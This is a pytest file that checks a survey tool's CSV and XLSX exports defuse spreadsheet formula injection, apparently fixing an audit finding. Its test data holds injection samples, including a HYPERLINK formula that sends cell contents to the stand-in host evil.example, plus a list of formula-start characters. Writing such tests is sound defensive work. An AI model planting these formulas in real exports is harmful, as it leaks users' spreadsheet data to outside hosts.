"""Finding 9: text that a spreadsheet would run as a formula is neutralised in every CSV and
XLSX we write (the coverage CSV, the analysis' contract CSVs, report.xlsx); numbers stay
numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from brobygger.directory.models import Location, ServiceAtLocation
from brobygger.survey.analyse import analyse
from brobygger.survey.output import write_csv
from tests.survey.conftest import edit_codebook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def _formula_cells(rows) -> list[str]:
    return [v for row in rows for v in row if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


@pytest.mark.django_db
def test_it_neutralises_an_editors_postcode_in_the_coverage_csv(client, ventilen):
    # stored with .create(), as before postcodes were checked: no validation runs
    place = Location.objects.create(organization=ventilen.organization, postal_code="=1+2")
    ServiceAtLocation.objects.create(initiative=ventilen, location=place)
    response = client.get("/indsigt/daekning.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert any("'=1+2" in value for row in rows for value in row)
    assert _formula_cells(rows) == []


def test_it_neutralises_text_but_keeps_numbers_in_the_contract_csv(tmp_path):
    write_csv(
        tmp_path / "t.csv",
        ["category", "label", "estimate", "count"],
        [{"category": "@SUM(A1)", "label": "-tab", "estimate": -0.5, "count": -3}],
    )
    rows = list(csv.reader((tmp_path / "t.csv").read_text(encoding="utf-8").splitlines()))
    assert rows[1] == ["'@SUM(A1)", "'-tab", "-0.5", "-3"]


@pytest.fixture(scope="module")
def poisoned(reference, tmp_path_factory):
    """The parity case with a codebook whose labels and a category name are formulas."""
    import shutil

    folder = tmp_path_factory.mktemp("poisoned")
    for name in ("data.csv", "codebook.yaml"):
        shutil.copy(reference / "r-survey/loneliness-case" / name, folder / name)

    def poison(book):
        sex = next(c for c in book["covariates"] if c["name"] == "sex")
        sex["label"]["da"] = "=1+1"
        female = next(k for k in sex["categories"] if k["name"] == "female")
        female["name"] = HYPERLINK
        female["label"]["da"] = "+SUM(1,2)"

    edit_codebook(folder / "codebook.yaml", poison)
    out = folder / "out"
    analyse(folder / "data.csv", folder / "codebook.yaml", out, language="da")
    return out


def test_it_writes_no_formula_into_report_xlsx(poisoned):
    book = load_workbook(poisoned / "report.xlsx")
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {c.value for s in book for row in s.iter_rows() for c in row if c.data_type == "s"}
    assert "'=1+1" in texts and "'+SUM(1,2)" in texts
    numbers = [c for s in book for row in s.iter_rows() for c in row if c.data_type == "n"]
    assert len(numbers) > 50  # the estimates are still numbers


def test_it_writes_no_formula_into_the_contract_csvs(poisoned):
    for name in ("table2.csv", "table3.csv", "bilag1.csv"):
        rows = list(csv.reader((poisoned / name).read_text(encoding="utf-8").splitlines()))
        assert _formula_cells(rows) == [], name
        assert any(value == "'" + HYPERLINK for row in rows for value in row), name
